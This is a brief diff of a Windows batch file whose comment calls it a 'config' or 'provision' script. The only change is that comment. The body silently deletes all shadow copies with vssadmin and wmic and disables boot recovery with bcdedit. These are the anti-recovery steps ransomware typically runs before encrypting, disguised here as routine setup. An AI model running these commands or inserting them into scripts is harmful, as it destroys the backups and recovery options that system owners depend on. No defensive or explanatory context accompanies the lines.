@@ -1,4 +1,4 @@
-REM config 7228 v1
+REM provision 6960 v1
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
